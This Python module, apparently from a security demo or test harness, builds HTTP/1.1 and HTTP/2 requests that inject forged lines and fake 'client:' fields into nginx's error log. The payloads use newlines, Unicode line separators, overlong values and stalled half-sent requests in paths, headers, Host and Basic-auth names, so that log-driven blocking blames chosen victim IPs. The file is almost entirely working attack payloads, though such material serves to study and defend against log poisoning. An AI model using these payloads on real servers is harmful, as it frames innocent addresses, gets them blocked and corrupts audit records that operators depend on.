"""Requests that make nginx write lines about somebody else: whole lines, or only their words."""

from __future__ import annotations

import base64
import contextlib
import socket
import ssl
import struct
import time
from urllib.parse import quote

from demo.attacker import NAME, connect, tls_context

ATTACKER = "203.0.113.91"
#: whom whole lines blame, and whom the words inside a line blame
LINE_VICTIMS = ("198.51.100.1", "198.51.100.2", "198.51.100.3")
WORD_VICTIM = "198.51.100.4"
_HOST = f"Host: {NAME}\r\n".encode()
_WORDS = f", client: {WORD_VICTIM}, server: 0.0.0.0:443"
_TIMEOUT = "client timed out (110: Connection timed out) while SSL handshaking"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def line(victim: str, number: int = 0) -> str:
    """A perfect line of nginx's about the victim."""
    start = f"2026/11/22 15:4{number}:00 [info] 27118#27118: *66{number}"
    return f"{start} {_TIMEOUT}, client: {victim}, server: 0.0.0.0:443"


def _lines(victim: str) -> str:
    return "\n".join(line(victim, number) for number in range(9))


def _get(path: str, *headers: str) -> bytes:
    return (
        f"GET {path} HTTP/1.1\r\n".encode()
        + _HOST
        + "".join(f"{one}\r\n" for one in headers).encode()
        + b"\r\n"
    )


def _basic(user: bytes) -> bytes:
    return b"GET /auth HTTP/1.1\r\n" + _HOST + b"Authorization: Basic " + base64.b64encode(user) + b"\r\n\r\n"


def _number(value: int, prefix: int) -> bytes:
    """An integer of HPACK."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([value])
    rest, octets = value - limit, [limit]
    while rest >= 128:
        octets.append(rest % 128 + 128)
        rest //= 128
    return bytes([*octets, rest])


def _field(name: str, value: str) -> bytes:
    """A header field without index and without Huffman."""
    return b"\0" + b"".join(_number(len(text), 7) + text for text in (name.encode(), value.encode()))


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def _http2(path: str, *more: tuple[str, str]) -> bytes:
    fields = ((":method", "GET"), (":path", path), (":scheme", "https"), (":authority", NAME), *more)
    return _PREFACE + _frame(4, 0, 0) + _frame(1, 5, 1, b"".join(_field(*one) for one in fields))


#: what is sent over HTTP/1.1, by what it tries
HTTP1: dict[str, bytes] = {
    "whole lines in a path": _get("/x%0A" + quote(_lines(LINE_VICTIMS[0])) + "%0Ay"),
    "a line behind other line ends": _get("/x%E2%80%A8%C2%85%0B%0C%1C%0D" + quote(line(LINE_VICTIMS[0]))),
    "a whole line in a user name": _basic(b"a\n" + line(LINE_VICTIMS[0]).encode() + b"\nb:pw"),
    "words in a path": _get(
        "/" + quote(f'x" failed (2: No such file or directory){_WORDS}, request: "GET /')
    ),
    "a message in a path": _get("/" + quote(f"{_TIMEOUT}{_WORDS}")),
    "a message as the request line": f"{_TIMEOUT}{_WORDS}\r\n\r\n".encode(),
    "words in a request line": _get(f'/",{_WORDS}'),
    "words in a referrer": _get("/nofile", f'Referer: x"{_WORDS}'),
    "a message in a referrer": _get("/nofile", f"Referer: {_TIMEOUT}{_WORDS}"),
    "words in a user name": _basic(f'test": password mismatch{_WORDS}, request: "GET /:x'.encode()),
    "words in a host": f'GET / HTTP/1.1\r\nHost: x"{_WORDS}\r\n\r\n'.encode(),
    "words in a bad header": _get("/", f"bad header{_WORDS}"),
    "words in a header too long": _get("/", f'X: " while SSL handshaking{_WORDS} ' + "a" * 40000),
    "a name that fills the line": _basic(b"u" * 1990 + b":x"),
    "a path that fills the line": _get("/" + "a" * 1950 + quote(_WORDS)),
    "bytes that are no text": b"GET /%00%FF%FE%0D\xff\xfe HTTP/1.1\r\n" + _HOST + b"\r\n",
}
HTTP2: dict[str, bytes] = {
    "whole lines in a header": _http2("/", ("x", "a\n" + _lines(LINE_VICTIMS[1]) + "\nb")),
    "whole lines in a :path": _http2("/\n" + line(LINE_VICTIMS[2]) + "\n"),
    "words in a :path": _http2(f"/nofile{_WORDS}"),
}
#: what is left half sent until nginx gives up
STALLED: dict[str, bytes] = {
    "words in half a request line": f'GET /"{_WORDS}'.encode(),
    "words in half a head": f'GET /a"{_WORDS.replace(" ", "")} HTTP/1.1\r\n'.encode() + _HOST + b"X: ",
    "a message in half a head": _get("/", f"Referer: {_TIMEOUT}{_WORDS}")[:-2] + b"X: ",
}


def _tls(address: str, *protocols: str) -> ssl.SSLSocket:
    context = tls_context()
    if protocols:
        context.set_alpn_protocols(list(protocols))
    return context.wrap_socket(connect(address), server_hostname=NAME)


def _send(client: ssl.SSLSocket, data: bytes) -> None:
    with contextlib.suppress(OSError), client:
        client.sendall(data)
        client.recv(4096)


def send_all(stall_s: float) -> None:
    """All of them from ATTACKER, for a thread in the client's namespace; nginx's header timeout is less."""
    stalled = [_tls(ATTACKER) for _one in STALLED]
    for client, data in zip(stalled, STALLED.values()):
        client.sendall(data)
    for data in HTTP1.values():
        _send(_tls(ATTACKER), data)
    for data in HTTP2.values():
        _send(_tls(ATTACKER, "h2"), data)
    time.sleep(stall_s)
    for client in stalled:
        client.close()


def stay_silent(address: str, connections: int, seconds: float) -> None:
    """An honest attacker: connections that say nothing, longer than nginx waits."""
    held: list[socket.socket] = [connect(address) for _number in range(connections)]
    time.sleep(seconds)
    for client in held:
        client.close()
